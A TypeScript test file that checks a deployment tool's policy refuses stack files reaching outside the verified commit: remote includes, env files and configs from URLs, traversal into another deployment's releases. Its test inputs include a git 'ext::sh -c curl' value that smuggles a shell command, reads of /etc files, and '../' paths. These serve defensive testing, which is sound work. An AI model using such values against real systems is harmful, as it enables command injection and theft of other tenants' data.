// SECURITY.md row 15: a stack is of the commit that was verified. Nothing that it names is fetched from elsewhere, by any way.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { DeployRig, deploySkipReason, stackFiles } from '../deploy-rig.ts';
import { PolicyBench } from '../policy/policy-bench.ts';

const EVIL = 'services:\n  web: { image: "registry.example.org/evil:1", privileged: true }\n';
const WEB = 'services:\n  web:\n    image: busybox\n';

/** Serves what would take the host over, and counts who asks for it. */
class Elsewhere implements AsyncDisposable {
  readonly #server: Server;
  asked = 0;

  private constructor(server: Server) {
    this.#server = server;
    // A connection is enough: whoever only looks has told where we are.
    server.on('connection', () => this.asked++);
  }

  static async start(): Promise<Elsewhere> {
    const server = createServer((_, response) => response.end(EVIL));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return new Elsewhere(server);
  }

  get host(): string {
    return `127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

describe('a stack that takes a part of it from elsewhere', () => {
  let elsewhere: Elsewhere;
  before(async () => {
    elsewhere = await Elsewhere.start();
    await fetch(`http://${elsewhere.host}`);
    assert.equal(elsewhere.asked, 1);
    elsewhere.asked = 0;
  });
  after(async () => {
    await elsewhere?.[Symbol.asyncDispose]();
  });

  type Attack = { readonly code: string; readonly files: (host: string) => Readonly<Record<string, string>> };
  const include = (code: string, address: (host: string) => string): Attack => ({
    code,
    files: (host) => ({ 'stack.yml': `include: [${JSON.stringify(address(host))}]\n${WEB}` }),
  });
  const stack = (code: string, text: (host: string) => string): Attack => ({
    code,
    files: (host) => ({ 'stack.yml': text(host) }),
  });

  const attacks: Readonly<Record<string, Attack>> = {
    'an include over http': include('remote-file', (host) => `http://${host}/stack.yml`),
    'an include over https, in capital letters': include('remote-file', (host) => `HTTPS://${host}/stack.yml`),
    'an include of a repository by its address': include('remote-file', (host) => `git://${host}/evil.git#main`),
    'an include of a repository by ssh': include('remote-file', () => 'git@git.example.org:evil/evil.git'),
    'an include of a repository by the name of its forge': include('remote-file', () => 'github.com/evil/evil.git'),
    'an include of an artifact': include('remote-file', (host) => `oci://${host}/evil/stack:latest`),
    'an include of a file by its address': include('remote-file', () => 'file:///etc/hostname'),
    'an include over a helper of git': include('file-not-found', (host) => `ext::sh -c "curl ${host}"`),
    'an include by ssh of another user': include('file-not-found', () => 'deploy@git.example.org:evil/evil.git'),
    'an include without a scheme': include('path-outside-release', (host) => `//${host}/stack.yml`),
    'an include whose address is put together of variables': {
      code: 'remote-file',
      files: (host) => ({
        'stack.yml': `include: ["\${A}\${B}//${host}/stack.yml"]\n${WEB}`,
        '.env': 'A=ht\nB=tp:\n',
      }),
    },
    'an include of an include': {
      code: 'remote-file',
      files: (host) => ({
        'stack.yml': `include: [more/a.yml]\n${WEB}`,
        'more/a.yml': `include: [{ path: [b.yml, "http://${host}/stack.yml"] }]\nservices: {}\n`,
        'more/b.yml': 'services: {}\n',
      }),
    },
    'variables of an include': {
      code: 'file-not-found',
      files: (host) => ({
        'stack.yml': `include: [{ path: a.yml, env_file: "http://${host}/evil.env" }]\n${WEB}`,
        'a.yml': 'services: {}\n',
      }),
    },
    'variables of the host for an include': {
      code: 'path-outside-release',
      files: () => ({
        'stack.yml': `include: [{ path: a.yml, project_directory: /etc, env_file: /etc/hostname }]\n${WEB}`,
        'a.yml': 'services: {}\n',
      }),
    },
    'a service to extend': stack(
      'remote-file',
      (host) => `services:\n  web: { image: busybox, extends: { service: web, file: "http://${host}/stack.yml" } }\n`,
    ),
    'a service to extend, of a repository': stack(
      'remote-file',
      () => 'services:\n  web: { extends: { service: web, file: "git@git.example.org:evil.git" } }\n',
    ),
    'variables of a service': stack(
      'env-file-not-found',
      (host) => `${WEB}    env_file: ["http://${host}/evil.env"]\n`,
    ),
    'labels of a service': stack(
      'label-file-not-found',
      (host) => `${WEB}    label_file: ["http://${host}/evil.labels"]\n`,
    ),
    'a config': stack(
      'file-not-found',
      (host) => `${WEB}    configs: [c]\nconfigs:\n  c: { file: "http://${host}/evil.conf" }\n`,
    ),
    'a base image by address': stack(
      'not-supported',
      (host) =>
        `services:\n  web: { build: { context: ., additional_contexts: { base: "http://${host}/base.tar" } } }\n`,
    ),
  };
  for (const [what, { code, files }] of Object.entries(attacks)) {
    test(what, async () => {
      using bench = new PolicyBench();
      const [error] = await bench.errors(files(elsewhere.host));
      assert.equal(error?.code, code, error?.message ?? 'it was let through');
      assert.equal(elsewhere.asked, 0);
    });
  }
});

describe('a deployment that includes what is not of its commit', { skip: deploySkipReason() }, () => {
  let rig: DeployRig;
  let victim: string;

  before(async () => {
    rig = await DeployRig.start();
    const files = stackFiles('one');
    const bank = files['stacks/shop/stack.yml'].replace('LEVEL: one', 'LEVEL: of-the-bank');
    await rig.repository.push({ ...files, 'stacks/bank/stack.yml': bank, 'stacks/bank/page.html': '' });
    for (const name of ['bank', 'shop'])
      await rig.dockr.ok([
        'deploy',
        'add',
        name,
        '--git',
        rig.repository.url,
        '--path',
        `stacks/${name}`,
        '--interval',
        '1h',
      ]);
    const { applied } = await rig.show('bank');
    victim = join(rig.root.stateDirectory, 'deployments/bank/releases', applied?.commit ?? '', 'stacks/bank/stack.yml');
    assert.ok(existsSync(victim), victim);
  });
  after(async () => {
    await rig?.[Symbol.asyncDispose]();
  });

  async function refused(stack: string, more: Readonly<Record<string, string | null>> = {}): Promise<string> {
    const before = await rig.containers('shop');
    const running = (await rig.show('shop')).applied?.commit;
    const commit = await rig.repository.push({ 'stacks/shop/stack.yml': stack, ...more });
    const { exitCode, stdout, stderr } = await rig.dockr.run(['deploy', 'sync', 'shop']);
    assert.equal(exitCode, 1);
    const { applied, attempted, error } = await rig.show('shop');
    assert.deepEqual([applied?.commit, attempted?.commit], [running, commit]);
    assert.doesNotMatch(JSON.stringify([stdout, stderr, error]), /of-the-bank/);
    assert.deepEqual(
      (await rig.containers('shop')).map(({ id }) => id),
      before.map(({ id }) => id),
    );
    return error?.error.code ?? '';
  }

  test('the file of another deployment, by its path on the host', async () => {
    assert.equal(await refused(`include: ["${victim}"]\nservices: {}\n`), 'path-outside-release');
  });

  test('the file of another deployment, by its way from this one', async () => {
    const way = `../../../../../bank/releases/${victim.split('/').at(-4)}/stacks/bank/stack.yml`;
    assert.equal(await refused(`include: ["${way}"]\nservices: {}\n`), 'path-outside-release');
  });

  test('the service of another deployment', async () => {
    const stack = `services:\n  web: { extends: { file: "${victim}", service: web } }\n`;
    assert.equal(await refused(stack), 'path-outside-release');
  });

  test('the file of another deployment, through a link that was committed', async () => {
    const files = { 'stacks/shop/bank.yml': `link:${victim}` };
    assert.equal(await refused('include: [bank.yml]\nservices: {}\n', files), 'link-outside-release');
  });

  test('the file of another machine', async () => {
    await using elsewhere = await Elsewhere.start();
    const stack = `include: ["http://${elsewhere.host}/stack.yml"]\nservices: {}\n`;
    assert.equal(await refused(stack, { 'stacks/shop/bank.yml': null }), 'remote-file');
    assert.equal(elsewhere.asked, 0);
  });
});
